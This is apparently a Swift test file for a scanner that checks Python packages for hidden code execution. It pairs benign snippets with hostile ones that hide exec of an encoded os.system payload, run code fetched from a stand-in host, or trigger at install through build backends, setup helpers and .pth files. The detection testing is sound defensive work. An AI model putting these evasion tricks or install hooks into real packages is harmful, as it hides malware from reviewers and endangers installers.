import Cryptography
import Screening
import TestSupport
import Testing

@testable import Analyzers

private let payload = "import os; os.system('id acme-box')"
private let packed = Base64.encode(Array(payload.utf8))
private let decode = "base64.b64decode('\(packed)')"
private let twice = Base64.encode(Array(packed.utf8))
private let hex = payload.utf8.map { String($0 >> 4, radix: 16) + String($0 & 15, radix: 16) }.joined()
private let codes = payload.utf8.map { String($0) }.joined(separator: ",")
private let longLine = String(repeating: "a = 1; ", count: 290_000)

private let pythonEvasions: [Evasion] = [
    Evasion(
        "three quotes inside a string", hostile: "import base64\na = \"'''\"\nexec(\(decode))\nb = \"'''\"\n",
        benign: "import base64\na = '''\nexec(\(decode))\n'''\n"),
    Evasion(
        "a comment mark inside a string", hostile: "import base64\na = '#'; exec(\(decode))\n",
        benign: "import base64\na = 1 # exec(\(decode))\n"),
    Evasion(
        "an alias", hostile: "import base64\nrun = exec\nrun(\(decode))\n",
        benign: "import base64\nrun = print\nrun(\(decode))\n"),
    Evasion(
        "an import under another name", hostile: "from base64 import b64decode as d\nexec(d('\(packed)'))\n",
        benign: "from base64 import b64decode as d\nprint(d('\(packed)'))\n"),
    Evasion(
        "a chain of getattr", .suspicious, hostile: "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n",
        benign: "getattr(__import__('js' + 'on'), 'du' + 'mps')(1)\n"),
    Evasion(
        "builtins by name", .suspicious, hostile: "import builtins\ngetattr(builtins, 'ex' + 'ec')('1')\n",
        benign: "import builtins\ngetattr(builtins, 'pri' + 'nt')('1')\n"),
    Evasion(
        "the dictionary of builtins", .suspicious, hostile: "__builtins__.__dict__['ev' + 'al']('1')\n",
        benign: "__builtins__.__dict__['pri' + 'nt']('1')\n"),
    Evasion(
        "import by function",
        hostile: "__import__('os').system(__import__('base64').b64decode('\(packed)').decode())\n",
        benign: "__import__('os').getcwd()\n"),
    Evasion(
        "importlib",
        hostile: "import importlib\nb = importlib.import_module('base64')\nexec(b.b64decode('\(packed)'))\n",
        benign: "import importlib\nb = importlib.import_module('base64')\nprint(b.b64decode('\(packed)'))\n"),
    Evasion(
        "compile in between", hostile: "import base64\nexec(compile(\(decode), 'a', 'exec'))\n",
        benign: "exec(compile('a = 1', 'a', 'exec'))\n"),
    Evasion(
        "decoding twice", hostile: "import base64 as b\nexec(b.b64decode(b.b64decode('\(twice)')))\n",
        benign: "import base64 as b\nprint(b.b64decode(b.b64decode('\(twice)')))\n"),
    Evasion(
        "hexadecimal", hostile: "exec(bytes.fromhex('\(hex)'))\n", benign: "print(bytes.fromhex('6869'))\n"),
    Evasion(
        "numbers of characters", .suspicious, hostile: "exec(''.join(map(chr, [\(codes)])))\n",
        benign: "print(''.join(map(chr, [65, 66])))\n"),
    Evasion(
        "marshal",
        hostile: "import marshal\nexec(marshal.loads(b'c\\x00\\x00\\x00\\x00 something longer that is code'))\n",
        benign: "import marshal\nmarshal.loads(b'i\\x01\\x00\\x00\\x00')\n"),
    Evasion(
        "a decorator", hostile: "import base64\n@exec\n@lambda f: \(decode)\ndef f(): pass\n",
        benign: "import base64\n@print\n@lambda f: \(decode)\ndef f(): pass\n"),
    Evasion(
        "through variables and a function",
        hostile: "import base64\ndef d(x):\n    return base64.b64decode(x)\nc = d('\(packed)')\nexec(c)\n",
        benign: "import base64\ndef d(x):\n    return base64.b64decode(x)\nc = d('\(packed)')\nprint(c)\n"),
    Evasion(
        "a payload in a data file",
        hostile: "import base64\nwith open('data.bin') as f:\n    exec(base64.b64decode(f.read()))\n",
        benign: "with open('data.bin') as f:\n    print(f.read())\n", files: ["acme_box/data.bin": packed]),
    Evasion(
        "code in a file that says it is text", .suspicious, hostile: "exec(open('acme_box/words.txt').read())\n",
        benign: "print(open('acme_box/words.txt').read())\n",
        files: ["acme_box/words.txt": "import os\ndef run():\n    print(os.getcwd())\n"]),
    Evasion(
        "a picture", hostile: "exec(open('acme_box/logo.png', 'rb').read()[100:])\n",
        benign: "logo = open('acme_box/logo.png', 'rb').read()\n"),
    Evasion(
        "the network into exec",
        hostile: "import requests\nr = requests.get('https://x.example/a')\nexec(r.text)\n",
        benign: "import requests\nr = requests.get('https://x.example/a')\nprint(r.text)\n"),
    Evasion(
        "a with statement",
        hostile: "from urllib.request import urlopen\nwith urlopen('https://x.example') as f:\n"
            + "    exec(f.read())\n",
        benign: "from urllib.request import urlopen\nwith urlopen('https://x.example') as f:\n    print(f.read())\n"),
    Evasion(
        "another interpreter",
        hostile: "import subprocess, sys, base64\n"
            + "subprocess.Popen([sys.executable, '-c', 'import base64; exec(\(decode.replacing("'", with: "\\'")))'])\n",
        benign: "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import sys; print(sys.path)'])\n"),
    Evasion(
        "lines that end with CR only", hostile: "# a comment\rimport base64\rexec(\(decode))\r",
        benign: "# exec(\(decode))\na = 1\n"),
    Evasion(
        "continued lines", hostile: "import base64\nexec\\\n(\(decode))\n",
        benign: "import base64\nprint\\\n(\(decode))\n"),
    Evasion(
        "another form of letters", .malicious, hostile: "\u{1D452}\u{1D465}\u{1D452}\u{1D450}('1')\n",
        benign: "na\u{EF}ve = 1\n"),
    Evasion(
        "a line of 2 MB", hostile: "import base64\n\(longLine)exec(\(decode))\n", benign: "\(longLine.prefix(70_000))\n"
    ),
    Evasion(
        "code inside of code", hostile: "exec(\"import base64; exec(\(decode))\")\n", benign: "exec('a = 1')\n"),
]

@Suite("Python modules that hide what they do")
struct PythonEvasionTests {
    private func report(_ code: String, _ files: [String: String]) throws -> AnalysisReport {
        try wheelCode(code) { wheel in
            for (path, text) in files.sorted(by: { $0.key < $1.key }) { wheel.add(path, text) }
        }.report()
    }

    @Test("hiding does not help, and what looks alike is clean", arguments: pythonEvasions)
    func evasion(_ evasion: Evasion) throws {
        try evasion.check(report)
    }

    @Test("hooks of a build run what they name at installation")
    func hooks() throws {
        let code = "import base64\nexec(\(decode))\n"
        let backend = try sdist { tar in
            let top = "acme_box-1.2.3"
            tar.addFile(
                "\(top)/pyproject.toml",
                "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"tools\"]\n")
            tar.addFile("\(top)/tools/backend.py", code)
        }
        let inSetup = try sdist(setup: "from tools import helper\nfrom setuptools import setup\nsetup()\n") { tar in
            tar.addFile("acme_box-1.2.3/tools/__init__.py", "")
            tar.addFile("acme_box-1.2.3/tools/helper.py", code)
        }
        let start = try wheelCode("1\n") { wheel in
            wheel.add("acme.pth", "import acme_box.start\n")
            wheel.add("acme_box/start.py", code)
        }
        for artifact in [backend, inSetup, start] {
            let found = artifact.report().findings.compactMap(\.finding.evidence)
            #expect(found.contains("decoded-code-runs@install"), "\(found)")
        }
        // conftest.py runs with the tests, which nobody runs at installation.
        let tests = try sdist { $0.addFile("acme_box-1.2.3/conftest.py", code) }
        #expect(tests.report().findings.compactMap(\.finding.evidence).contains("decoded-code-runs@tests"))
    }
}
